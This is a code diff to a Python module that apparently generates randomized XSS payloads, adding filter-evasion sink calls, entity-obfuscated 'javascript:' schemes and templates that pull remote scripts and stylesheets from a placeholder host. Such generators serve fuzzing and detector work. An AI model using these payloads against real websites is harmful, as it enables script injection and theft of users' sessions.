@@ -115,7 +115,7 @@ _SINK_CALLS = (
     "window.alert({arg})", "self.alert({arg})", "top.alert({arg})", "parent.alert({arg})",
     "this.alert({arg})", "globalThis.alert({arg})", "window['alert']({arg})", "top['al'+'ert']({arg})",
     "window['al'+'ert']({arg})", "self['ale'+'rt']({arg})", "top[/al/.source+/ert/.source]({arg})",
-    "window[`al`+`ert`]({arg})", "alert?.({arg})", "[{arg}].find(alert)", "[{arg}].map(alert)",
+    "window[`al`+`ert`]({arg})", "alert?.({arg})", "[{arg}].find(alert)", "[{arg}].map(alert)", "[{arg}].find(confirm)", "[{arg}].some(prompt)",
     "a=alert,a({arg})", "eval('alert({arg})')", "eval(atob('{b64}'))", "eval(String.fromCharCode({codes}))",
     "Function('alert({arg})')()", "new Function`alert\\`{argt}\\``", "setTimeout('alert({arg})')",
     "setTimeout(alert,0,{arg})", "setInterval('alert({arg})',1000)", "[].constructor.constructor('alert({arg})')()",
@@ -290,6 +290,11 @@ def _js_uri(rng: random.Random, js: str) -> str:
     )  # fmt: skip
     if scheme == "vbscript:":
         return "vbscript:msgbox(1)" if rng.random() < 0.5 else "vbscript:alert(document.cookie)"
+    if rng.random() < 0.05:  # entity whitespace between the letters: j&Tab;a&NewLine;v...
+        sep = rng.choice(
+            ["&Tab;", "&NewLine;", "&#x09;", "&#10;", "&NewLine;&Tab;", "\t", "&#x0D;"]
+        )
+        scheme = sep.join("javascript") + rng.choice([":", "&colon;"])
     return scheme + js
 
 
@@ -413,8 +418,13 @@ def _template(rng: random.Random) -> tuple[str, str]:
 
 def _css_misc(rng: random.Random) -> tuple[str, str]:
     js = _sink(rng)
-    idx = rng.randrange(14)
+    idx = rng.randrange(26)
     tmpl = (
+        "<script src=http://{host}/{w}.js></script>", "<script src=//{host}/{w}.js?<b>", "<link rel=\"stylesheet\" href=\"http://{host}/{w}.css\">",
+        "<style>@import'http://{host}/{w}.css';</style>", "<layer src=\"http://{host}/{w}.html\"></layer>", "<xml id=x src=\"http://{host}/{w}.xml\"></xml>",
+        "<div style=\"behavior: url(http://{host}/{w}.htc);\">", "<div style=\"-moz-binding: url(http://{host}/{w}.xml#xss)\">",
+        "<embed src=\"http://{host}/{w}.swf\" allowscriptaccess=\"always\"></embed>", "<object type=\"text/x-scriptlet\" data=\"http://{host}/{w}.html\"></object>",
+        "<meta http-equiv=\"set-cookie\" content=\"session={w}\">", "<script>(+[])[([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]+[])[+!+[]]]</script>",
         "<div style=\"background:url(javascript:{jsq})\">", "<div style=\"width:expression({jsq})\">",
         "<style>@import 'javascript:{jsq}';</style>", "<link rel=stylesheet href=javascript:{jsn}>",
         "<style>body{{background:url(\"javascript:{jsq}\")}}</style>", "<xss style=\"behavior:url(//{host}/x.htc)\">",
